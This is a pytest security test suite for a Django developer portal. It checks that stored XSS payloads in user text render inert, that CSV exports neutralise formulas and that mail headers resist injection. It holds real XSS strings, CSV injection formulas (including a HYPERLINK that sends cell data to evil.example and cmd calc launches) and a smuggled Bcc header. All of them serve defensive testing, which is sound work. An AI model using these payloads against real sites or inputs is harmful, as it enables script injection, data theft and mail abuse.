"""Stored XSS: classic payloads in every user-written text, stored through the areas' services,
must come out of every page as inert text (escaped, or stripped by the Markdown sanitiser).

The pages are parsed (html.parser, which, like a browser, sees a ``<script>`` that breaks out
of an SVG ``<text>``) and checked for: script elements other than the static ones, any ``on*``
attribute, ``javascript:``/``data:``/``vbscript:`` URLs, and iframe/object/embed/base/meta tags.
Hand-built SVG (catalog.graph, portal.health.svg, the SLA chart) is part of the pages checked.
"""

from __future__ import annotations

import datetime as dt
import re
from decimal import Decimal
from html.parser import HTMLParser
from types import SimpleNamespace

import pytest
from django.test import Client
from django.utils import timezone

from catalog.models import Membership

PAYLOAD = (
    "<script>alert('x1')</script>"
    "<img src=x onerror=alert('x2')>"
    "<svg onload=alert('x3')></svg>"
    "</text></title><script>alert('x4')</script>"
    '" onmouseover="alert(\'x5\')" x="'
    "' onfocus='alert(6)' autofocus x='"
    "<a href=\"javascript:alert('x7')\">j</a>"
    "<a href=\"JaVaScRiPt&#58;alert('x8')\">k</a>"
    "<iframe src=\"javascript:alert('x9')\"></iframe>"
    "<math><mtext><table><mglyph><style><img src=x onerror=alert('x10')>"
)
MARKDOWN_PAYLOAD = (
    PAYLOAD + "\n\n[click](javascript:alert('m1')) [data](data:text/html;base64,PHNjcmlwdD4=) "
    "![i](javascript:alert('m2')) <details open ontoggle=alert('m3')>"
)
# Short enough for names (max 200 characters); still breaks out of text, attributes and SVG.
NAME = "Ev</text><script>alert('n1')</script>\"'><img src=x onerror=alert('n2')>"

BAD_URL = re.compile(r"^\s*(javascript|vbscript|data):", re.IGNORECASE)
URL_ATTRS = {"href", "src", "xlink:href", "action", "formaction", "background", "poster"}
FORBIDDEN_TAGS = {"iframe", "object", "embed", "base", "frame", "applet"}


class _Inspector(HTMLParser):
    def __init__(self):
        super().__init__(convert_charrefs=True)
        self.problems: list[str] = []
        self.in_script = False

    def handle_starttag(self, tag, attrs):
        attrs = dict(attrs)
        if tag == "script":
            src = attrs.get("src") or ""
            if not src.startswith(("/static/", "/admin/jsi18n/")):
                self.problems.append(f"<script> not from /static/: {attrs}")
            self.in_script = True
        if tag in FORBIDDEN_TAGS or (tag == "meta" and "http-equiv" in attrs):
            self.problems.append(f"<{tag}> {attrs}")
        for name, value in attrs.items():
            if name.startswith("on"):
                self.problems.append(f"<{tag} {name}={value!r}>")
            if name in URL_ATTRS and value and BAD_URL.match(value.replace("\x00", "")):
                self.problems.append(f"<{tag} {name}={value!r}>")

    handle_startendtag = handle_starttag

    def handle_endtag(self, tag):
        if tag == "script":
            self.in_script = False

    def handle_data(self, data):
        if self.in_script and "alert(" in data:
            self.problems.append(f"script body {data[:80]!r}")


def executable_markup(html: str) -> list[str]:
    inspector = _Inspector()
    inspector.feed(html)
    inspector.close()
    return inspector.problems


def test_the_inspector_finds_what_it_should():
    """The checker itself: raw payloads are flagged, escaped ones are not."""
    from django.utils.html import escape

    assert len(executable_markup(PAYLOAD)) >= 6
    assert executable_markup(f"<svg><text>{NAME}</text></svg>")
    assert executable_markup(escape(PAYLOAD) + f"<svg><text>{escape(NAME)}</text></svg>") == []


@pytest.fixture
def evil(db, admin, make_user):
    """A catalog whose every user-written text is a payload, written through the services."""
    from catalog.services import catalog as cs
    from catalog.services.deprecations import deprecation_announce, deprecation_create
    from portal.health.services import feedback_submit, roadmap_item_save
    from slas import services as ss

    today = timezone.localdate()
    owner = make_user("xowner")
    member = make_user("xmember")
    provider_team = cs.team_create(slug="evil-team", name=NAME, description=PAYLOAD, actor=owner)
    consumer_team = cs.team_create(slug="evil-consumers", name=NAME + "2", actor=admin)
    Membership.objects.create(team=consumer_team, user=member, role=Membership.Role.MEMBER)
    provider = cs.service_create(
        slug="evil-provider",
        name=NAME,
        owner=provider_team,
        description=PAYLOAD,
        onboarding_notes=MARKDOWN_PAYLOAD,
        tags=["xss"],
    )
    consumer = cs.service_create(
        slug="evil-consumer", name=NAME + "c", owner=consumer_team, description=PAYLOAD
    )
    api = cs.api_create(slug="evil-api", name=NAME, provider=provider, description=PAYLOAD)
    v1 = cs.api_version_create(api=api, version="1.0.0", changelog=MARKDOWN_PAYLOAD, actor=owner)
    v2 = cs.api_version_create(api=api, version="2.0.0", changelog=MARKDOWN_PAYLOAD, actor=owner)
    cs.dependency_create(
        consumer=consumer,
        api_version=v1,
        purpose=PAYLOAD,
        requested_at=today - dt.timedelta(days=20),
        live_at=today - dt.timedelta(days=10),
    )
    deprecation = deprecation_create(
        actor=owner,
        api_version=v1,
        reason=MARKDOWN_PAYLOAD,
        replacement_version=v2,
        migration_guide_url="https://docs.example.com/guide",
        sunset_date=today + dt.timedelta(days=400),
    )
    deprecation = deprecation_announce(deprecation=deprecation, actor=owner, today=today)
    draft = deprecation_create(
        actor=owner,
        api_version=v2,
        reason=MARKDOWN_PAYLOAD,
        migration_guide_url="https://docs.example.com/guide",
        sunset_date=today + dt.timedelta(days=400),
    )
    policy = ss.policy_create(fields={"name": NAME, "description": PAYLOAD}, actor=admin)
    sla = ss.sla_create(
        api=api,
        fields={"availability_target": Decimal("99.9"), "tier": "high", "notes": PAYLOAD},
        severity_targets=[{"severity": "P1", "response_minutes": 15, "resolution_minutes": 60}],
        escalation_levels=[
            {"delay_minutes": 0, "contact_kind": "team", "contact_team": provider_team}
        ],
        actor=admin,
    )
    ss.measurement_push(
        sla=sla,
        rows=[
            {"day": today - dt.timedelta(days=n), "good": 990 + n, "total": 1000}
            for n in range(1, 6)
        ],
    )
    feedback_submit(actor=member, team=consumer_team, api=api, rating=2, comment=MARKDOWN_PAYLOAD)
    first = roadmap_item_save(
        actor=admin,
        title=NAME,
        description=MARKDOWN_PAYLOAD,
        layer="core",
        target_quarter="2030-Q1",
        service=provider,
    )
    second = roadmap_item_save(
        actor=admin,
        title=NAME + "2",
        description=MARKDOWN_PAYLOAD,
        layer="enabling",
        target_quarter="2030-Q2",
        team=consumer_team,
        depends_on=[first],
    )
    return SimpleNamespace(
        owner=owner,
        member=member,
        admin=admin,
        provider_team=provider_team,
        consumer_team=consumer_team,
        provider=provider,
        consumer=consumer,
        api=api,
        v1=v1,
        deprecation=deprecation,
        draft=draft,
        policy=policy,
        sla=sla,
        roadmap=(first, second),
    )


PAGES = {
    "catalog home": lambda e: "/catalog/?search=Ev",
    "layers": lambda e: "/catalog/layers/",
    "provider page (graph SVG, onboarding notes)": lambda e: (
        f"/catalog/services/{e.provider.slug}/"
    ),
    "consumer page (graph SVG)": lambda e: f"/catalog/services/{e.consumer.slug}/",
    "service impact": lambda e: f"/catalog/services/{e.provider.slug}/impact/",
    "service edit form": lambda e: f"/catalog/services/{e.provider.slug}/edit/",
    "team page": lambda e: f"/catalog/teams/{e.provider_team.slug}/",
    "consumer team page": lambda e: f"/catalog/teams/{e.consumer_team.slug}/",
    "api page": lambda e: f"/catalog/apis/{e.api.slug}/",
    "api version page (changelog)": lambda e: f"/catalog/api-versions/{e.v1.pk}/",
    "api version impact": lambda e: f"/catalog/api-versions/{e.v1.pk}/impact/",
    "deprecation list": lambda e: "/catalog/deprecations/",
    "deprecation page (reason)": lambda e: f"/catalog/deprecations/{e.deprecation.pk}/",
    "new deprecation form": lambda e: "/catalog/deprecations/new/",
    "declare dependency form": lambda e: f"/catalog/dependencies/new/?api_version={e.v1.pk}",
    "sla list": lambda e: "/slas/",
    "sla page (notes, chart)": lambda e: f"/slas/{e.sla.pk}/",
    "policy list": lambda e: "/slas/policies/",
    "policy page": lambda e: f"/slas/policies/{e.policy.pk}/",
    "health dashboard": lambda e: "/health/",
    "team health": lambda e: f"/health/teams/{e.consumer_team.slug}/",
    "provider team health": lambda e: f"/health/teams/{e.provider_team.slug}/",
    "api health (feedback SVG)": lambda e: f"/health/apis/{e.api.slug}/",
    "rate form (feedback comments)": lambda e: f"/health/apis/{e.api.slug}/rate/",
    "feedback rows": lambda e: "/health/rows/feedback/",
    "integration rows": lambda e: "/health/rows/integrations/",
    "consumer rows": lambda e: "/health/rows/consumers/",
    "roadmap (SVG)": lambda e: f"/health/roadmap/?selected={e.roadmap[0].pk}",
    "inbox": lambda e: "/inbox/",
    "roadmap item edit form": lambda e: f"/health/roadmap/{e.roadmap[0].pk}/edit/",
    "roadmap item delete (edit) confirmation": lambda e: (
        f"/health/roadmap/{e.roadmap[0].pk}/delete/"
    ),
    "draft deprecation edit form": lambda e: f"/catalog/deprecations/{e.draft.pk}/edit/",
    "notification settings (edit)": lambda e: f"/inbox/teams/{e.provider_team.pk}/settings/",
    "admin service list": lambda e: "/admin/catalog/service/",
    "admin sla": lambda e: f"/admin/slas/sla/{e.sla.pk}/change/",
}


@pytest.mark.parametrize("page", list(PAGES))
def test_stored_payloads_render_inert(evil, page):
    client = Client()
    # The consumer member sees the inbox and the rating form; staff see the admin.
    if page.startswith("admin"):
        client.force_login(evil.admin)
    elif "edit" in page:
        client.force_login(evil.owner)
    else:
        client.force_login(evil.member)
    response = client.get(PAGES[page](evil))
    assert response.status_code == 200, (page, response.status_code)
    html = response.content.decode()
    assert executable_markup(html) == [], page
    assert "alert('x1')</script>" not in html and "alert('n1')</script>" not in html


def test_the_payload_reaches_the_pages_escaped(evil):
    """Guard against a vacuous pass: the names and notes are on the pages, as text."""
    client = Client()
    client.force_login(evil.member)
    html = client.get(f"/catalog/services/{evil.consumer.slug}/").content.decode()
    assert "Ev&lt;/text&gt;&lt;script&gt;" in html  # the provider's name in the graph SVG
    for url in ("/health/", f"/health/roadmap/?selected={evil.roadmap[0].pk}"):
        svgs = re.findall(r"<svg.*?</svg>", client.get(url).content.decode(), re.S)
        assert any("Ev&lt;/text&gt;&lt;script&gt;" in svg for svg in svgs), url  # hand-built SVG
    html = client.get(f"/slas/{evil.sla.pk}/").content.decode()
    assert "&lt;script&gt;alert(&#x27;x1&#x27;)&lt;/script&gt;" in html  # notes, as text
    html = client.get(f"/catalog/services/{evil.provider.slug}/").content.decode()
    notes = html.split('data-testid="onboarding-notes"', 1)[1].split("</div>", 1)[0]
    assert '<a rel="noopener noreferrer">j</a>' in notes  # the link kept, its javascript: URL gone
    assert "javascript" not in notes.lower()


FORMULAS = [
    '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


def _looks_like_formula(cell: str) -> bool:
    if not cell or cell[0] not in "=+-@\t\r":
        return False
    try:
        float(cell)
    except ValueError:
        return True
    return False


@pytest.mark.parametrize("comment", FORMULAS)
def test_csv_exports_neutralise_formulas(evil, comment):
    """CSV injection (OWASP): a cell starting with = + - @ tab or CR is exported as text."""
    import csv
    import io

    from portal.health.services import feedback_submit

    feedback_submit(
        actor=evil.member, team=evil.consumer_team, api=evil.api, rating=3, comment=comment
    )
    client = Client()
    client.force_login(evil.member)
    response = client.get("/health/rows/feedback/?format=csv")
    assert response.status_code == 200
    assert response["Content-Type"].startswith("text/csv")
    cells = [c for row in csv.reader(io.StringIO(response.content.decode())) for c in row]
    assert any(comment.strip() in c for c in cells), cells
    assert [c for c in cells if _looks_like_formula(c)] == []


def _item(**overrides):
    from portal.notifications.channels import Item

    values = {
        "notification_id": 1,
        "kind": "deprecation_announced",
        "title": NAME,
        "body": PAYLOAD,
        "url": "https://portal.example.com/catalog/deprecations/1/",
        "payload": {},
        "relation": "direct",
        "path": [NAME, "b"],
        "detail": {},
        "team": NAME,
        "created_at": "2030-01-01T00:00:00Z",
        "event_id": 1,
    }
    values.update(overrides)
    return Item(**values)


def test_notification_email_html_is_inert():
    from portal.notifications.channels.email import message_for

    message = message_for(to=["team@example.com"], items=[_item(), _item(notification_id=2)])
    html = message.alternatives[0][0]
    assert executable_markup(html) == []
    assert "&lt;script&gt;" in html


@pytest.mark.parametrize("newline", ["\n", "\r", "\r\n"])
def test_a_title_cannot_inject_mail_headers(newline):
    """A service name with a line break ends up in the subject; it must neither add a header
    nor make the message unsendable (Django refuses CR/LF in headers with BadHeaderError)."""
    from portal.notifications.channels.email import message_for

    title = f"Payments{newline}Bcc: victim@example.com"
    message = message_for(to=["team@example.com"], items=[_item(title=title)])
    mime = message.message()  # raises BadHeaderError on a CR or LF in a header
    assert mime["Bcc"] is None
    assert "victim@example.com" in mime["Subject"]
